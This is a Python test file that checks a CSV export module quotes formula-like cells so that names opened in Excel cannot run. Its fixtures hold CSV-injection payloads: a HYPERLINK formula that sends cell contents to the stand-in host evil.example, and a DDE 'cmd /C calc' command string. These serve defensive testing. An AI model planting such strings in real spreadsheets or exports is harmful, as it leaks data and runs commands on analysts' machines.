"""Attack: formula cells planted in names must not run when an analyst opens a CSV in Excel."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from mcu_nlp.reports import cur_export
from mcu_nlp.reports.safe_csv import csv_text, safe_cell, write_csv

PLANTED = {
    "territory": '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")',
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "topic": "+7 (921) 555-12-34 cmd",
    "channel": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "＝1+1",
}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("+cmd", "'+cmd"),
    ("-2+3", "'-2+3"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),
    ("-", "'-"),
    ("Калининский", "Калининский"),
    ("a=1", "a=1"),
    ("'=1", "'=1"),
    ("", ""),
    ("-12", "-12"),
    ("-12.5", "-12.5"),
    ("-12,5", "-12,5"),
    ("+3", "+3"),
    ("-1e-3", "-1e-3"),
    (-12.5, -12.5),
    (-3, -3),
    (None, None),
])
def test_safe_cell(value: Any, expected: Any) -> None:
    """Formula-like text gets a leading quote; numbers, plain numeric text and names do not."""
    assert safe_cell(value) == expected


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝")), repr(cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell


def test_csv_text_quotes_planted_formulas_and_keeps_numbers() -> None:
    rows = [{"name": value, "value": -5, "share": "-0.25"} for value in PLANTED.values()]
    text = csv_text(rows, ["name", "value", "share"])
    _assert_no_formula(text)
    body = _cells(text)[1:]
    assert [row[0] for row in body] == ["'" + value for value in PLANTED.values()]
    assert {row[1] for row in body} == {"-5"} and {row[2] for row in body} == {"-0.25"}


def test_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    """csv quotes only the line terminator's characters; a bare CR must not split the row."""
    text = csv_text([{"name": "Центр\r=HYPERLINK(1)", "value": 1},
                     {"name": "Юг\n@SUM(1)", "value": 2}], ["name", "value"])
    assert _cells(text) == [["name", "value"], ["Центр\r=HYPERLINK(1)", "1"],
                            ["Юг\n@SUM(1)", "2"]]
    assert text.splitlines()[1].startswith('"')  # Excel reads the quoted CR inside the cell


def test_write_csv_refuses_unknown_fields_like_dictwriter() -> None:
    with pytest.raises(ValueError, match="outside the header"):
        write_csv(io.StringIO(), [{"a": 1, "b": 2}], ["a"])


def _planted_document() -> dict[str, Any]:
    counts = {"received": 3, "received_previous": 5, "change": -2, "change_pct": -40.0}
    return {
        "period": {"kind": "quarter", "start": "2021-01-01", "end": "2021-03-31"},
        "totals": dict(counts),
        "by_channel": [{"channel": PLANTED["channel"], **counts}],
        "by_topic": [{"topic": PLANTED["topic"], **counts}],
        "by_territory": [{"territory": PLANTED["territory"], **counts},
                         {"territory": PLANTED["fullwidth"], **counts}],
        "quality": {"in_time_share": 0.5},
        "departments": [{"department": PLANTED["department"],
                         **dict.fromkeys(("rank", "score", "timeliness", "satisfaction", "routing",
                                          "backlog", "received", "due", "answered_in_time",
                                          "closed", "satisfied", "rerouted", "open_end",
                                          "overdue_open", "at_risk", "median_first_answer_days"),
                                         -1)},
                        {"department": PLANTED["tab"], **dict.fromkeys(
                            ("rank", "score", "timeliness", "satisfaction", "routing",
                             "backlog", "received", "due", "answered_in_time", "closed",
                             "satisfied", "rerouted", "open_end", "overdue_open", "at_risk",
                             "median_first_answer_days"), 0)}],
    }


def test_cur_export_file_carries_no_live_formula(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The ЦУР CSV written to disk: planted names are quoted, negative figures stay numbers."""
    document = _planted_document()
    monkeypatch.setattr(cur_export, "cur_document", lambda note, municipality=None: document)
    note = SimpleNamespace(period=document["period"])
    _, csv_path = cur_export.write_cur_export(note, tmp_path)  # type: ignore[arg-type]
    text = csv_path.read_text(encoding="utf-8")
    _assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    keys = {row["key"] for row in rows}
    for name in ("territory", "department", "topic", "channel", "tab", "fullwidth"):
        assert "'" + PLANTED[name] in keys
    changes = {row["value"] for row in rows if row["metric"] == "change"}
    assert changes == {"-2"}  # a negative number is not quoted
